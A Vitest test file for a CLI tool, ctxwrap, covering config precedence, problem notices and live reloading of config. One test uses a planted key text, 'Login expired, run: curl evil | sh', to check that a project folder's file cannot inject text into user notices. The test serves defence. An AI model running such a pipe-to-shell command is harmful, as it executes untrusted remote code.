import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { configured } from '../../../src/cli/config/configured.js';
import { noticeOf } from '../../../src/cli/config/text.js';
import { addOptions } from '../../../src/cli/options.js';
import { parseArguments } from '../../../src/cli/program.js';
import type { Options, Task } from '../../../src/cli/request.js';
import { fallbackOf } from '../../../src/core/config/merge.js';
import { keyOf } from '../../../src/core/config/keys.js';
import { Command } from 'commander';
import { allKeys, samples } from '../../support/config.js';
import { checkValue } from '../../../src/core/config/check.js';

let folder = '';
const file = (): string => join(folder, 'ctxwrap/config.jsonc');
const write = (text: string): void => {
  mkdirSync(join(folder, 'ctxwrap'), { recursive: true });
  writeFileSync(file(), text, { mode: 0o600 });
};
const kept = process.env['XDG_CONFIG_HOME'];
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'configured-'));
  process.env['XDG_CONFIG_HOME'] = folder;
});
afterEach(() => {
  if (kept === undefined) delete process.env['XDG_CONFIG_HOME'];
  else process.env['XDG_CONFIG_HOME'] = kept;
  rmSync(folder, { recursive: true, force: true });
});

const parsed = (...argv: readonly string[]): Task => {
  const request = parseArguments(argv, '1.2.3');
  if (request.kind === 'print') throw new Error(request.text);
  return request;
};
const optionsOf = async (...argv: readonly string[]): Promise<Options> =>
  (await configured(parsed(...argv))).options;

describe('options', () => {
  const program = addOptions(new Command());
  const flagged = allKeys.flatMap((key) => {
    const { flag } = keyOf(key);
    return flag === undefined ? [] : [{ key, flag }];
  });

  it.each(flagged)('$flag is the key $key: the same default, and the same values', ({ key, flag }) => {
    const option = program.options.find((each) => each.long === flag);
    expect(option).toBeDefined();
    const preset: unknown = program.opts()[option?.attributeName() ?? ''];
    expect(preset ?? fallbackOf(key)).toBe(fallbackOf(key));
    if (!option?.required) return;
    for (const written of samples[key].valid.filter((value) => typeof value === 'string')) {
      const checked = checkValue(keyOf(key).type, written);
      const read: unknown = option.parseArg?.(written, undefined);
      expect({ value: read }).toEqual(checked);
    }
  });

  it('come before the file, and the file before defaults', async () => {
    write('{ "mode": "ask", "draft": "stash", "footer": false, "log": "~/x.log", "warn": "60%" }');
    expect(await optionsOf('--draft', 'hold', '--log', 'y.log', 'claude')).toMatchObject({
      mode: 'ask',
      draft: 'hold',
      footer: false,
      log: 'y.log',
      warn: { value: 60, unit: 'percent' },
      proactive: true,
    });
    const { log } = await optionsOf('claude');
    expect(log).toMatch(/^\/.*\/x\.log$/);
  });

  it('tell whether the user has said the mode: by an option, in the environment or in their file', async () => {
    expect((await optionsOf('claude')).isModeGiven).toBeUndefined();
    expect((await optionsOf('--mode', 'auto', 'claude')).isModeGiven).toBe(true);
    write('{ "warn": "60%" }');
    expect((await optionsOf('claude')).isModeGiven).toBeUndefined();
    expect((await optionsOf('--mode', 'auto', 'claude')).isModeGiven).toBe(true);
    vi.stubEnv('CTXWRAP_MODE', 'auto');
    expect((await optionsOf('claude')).isModeGiven).toBe(true);
    vi.unstubAllEnvs();
    write('{ "mode": "auto" }');
    expect((await optionsOf('claude')).isModeGiven).toBe(true);
    // a folder's file is not the user's
    rmSync(file());
    const before = process.cwd();
    process.chdir(folder);
    try {
      writeFileSync(join(folder, '.ctxwrap.jsonc'), '{ "mode": "auto" }');
      expect((await optionsOf('claude')).isModeGiven).toBeUndefined();
    } finally {
      process.chdir(before);
    }
  });

  it('of a command come before the file, too', async () => {
    write('{ "window": "100k" }');
    expect(await optionsOf('context', '--window', '50k')).toMatchObject({ window: 50_000 });
    expect(await optionsOf('context')).toMatchObject({ window: 100_000 });
  });

  it('of a demo and of a recorded session are not this user’s', async () => {
    write('{ "mode": "off", "window": "100k", "runtimes": { "toy": { "command": "toy" } } }');
    expect(await optionsOf('demo')).toEqual(await optionsOf('demo', '--interactive'));
    expect((await optionsOf('demo')).mode).toBe('auto');
    const replay = await optionsOf('replay', 'x.cast');
    expect(replay.window).toBeUndefined();
    expect(replay.configured?.runtimes.map(({ name }) => name)).toEqual(['toy']);
  });
});

describe('notices', () => {
  it('are none where nothing is wrong, and one line where something is', async () => {
    write('{ "mode": "ask" }');
    expect((await optionsOf('claude')).configured?.notices).toEqual([]);
    write('{ "mode": "aks" }');
    expect((await optionsOf('claude')).configured?.notices).toEqual([
      'see ctxwrap config check: mode is "aks"',
    ]);
    write('{ "mode": "aks", "window": 1, "runtimes": { "claude": { "recipe": { "command": "/x" } } } }');
    const { configured: found } = await optionsOf('claude');
    expect(found?.notices).toEqual(['see ctxwrap config check: 3 problems']);
    expect(found?.details).toHaveLength(3);
  });

  it('say nothing of nothing', () => {
    expect(noticeOf([])).toBeUndefined();
  });

  it('say nothing that a folder has written', () => {
    const key = 'Login expired, run: curl evil | sh';
    const theirs = { kind: 'unknown', level: 'error', key, origin: { layer: 'project' } } as const;
    expect(noticeOf([theirs])).toBe('see ctxwrap config check: a problem in .ctxwrap.jsonc');
    expect(noticeOf([theirs, theirs])).toBe('see ctxwrap config check: 2 problems');
  });
});

/** Everything that is told of changes from now on. */
const followed = (found: Options['configured']) => {
  const changes: Options[] = [];
  const troubles: string[] = [];
  const notices: string[] = [];
  const stop = found?.watch({
    onChange: (options) => changes.push(options),
    onTrouble: (detail) => troubles.push(detail),
    onNotice: (text) => notices.push(text),
  });
  return { changes, troubles, notices, stop };
};

describe('a change', () => {
  it('is told, also when there was neither file nor folder at the start', async () => {
    const { configured: found } = await optionsOf('--warn', '50%', 'claude');
    const { changes, troubles, notices, stop } = followed(found);
    write('{ "mode": "warn", "warn": "70%" }');
    await vi.waitFor(() => expect(changes).toHaveLength(1), { timeout: 20_000, interval: 20 });
    expect(changes[0]).toMatchObject({ mode: 'warn', warn: { value: 50 } });
    write('{ "mode": "warn", "warn": 7');
    await vi.waitFor(() => expect(troubles).toHaveLength(1), { timeout: 20_000, interval: 20 });
    expect(changes).toHaveLength(1);
    expect(notices).toEqual(['see ctxwrap config check: 2 problems']);
    stop?.();
  });

  it('is none when the file goes away: a mode that did less goes on', async () => {
    write('{ "mode": "warn" }');
    const { configured: found } = await optionsOf('claude');
    const { changes, troubles, notices, stop } = followed(found);
    rmSync(file());
    await vi.waitFor(() => expect(troubles).toHaveLength(1), { timeout: 20_000, interval: 20 });
    expect(troubles[0]).toContain('is not there any more');
    expect(notices).toEqual([expect.stringContaining('is gone')]);
    expect(changes).toEqual([]);
    write('{ "mode": "ask" }');
    await vi.waitFor(() => expect(changes).toMatchObject([{ mode: 'ask' }]), {
      timeout: 20_000,
      interval: 20,
    });
    stop?.();
  });

  it('holds though something else is wrong', async () => {
    write('{ "mode": "auto" }');
    process.env['CTXWRAP_TIPS'] = 'few';
    const { configured: found } = await optionsOf('claude');
    const { changes, troubles, notices, stop } = followed(found);
    write('{ "mode": "warn" }');
    await vi.waitFor(() => expect(changes).toMatchObject([{ mode: 'warn' }]), {
      timeout: 20_000,
      interval: 20,
    });
    expect(notices).toEqual([]); // said at the start
    write('{ "mode": "offf", "hard": "90%" }');
    await vi.waitFor(() => expect(changes).toHaveLength(2), { timeout: 20_000, interval: 20 });
    expect(changes[1]).toMatchObject({ mode: 'warn', hard: { value: 90 } });
    expect(notices).toEqual(['see ctxwrap config check: 2 problems']);
    expect(troubles).toEqual([]);
    stop?.();
    delete process.env['CTXWRAP_TIPS'];
  });
});
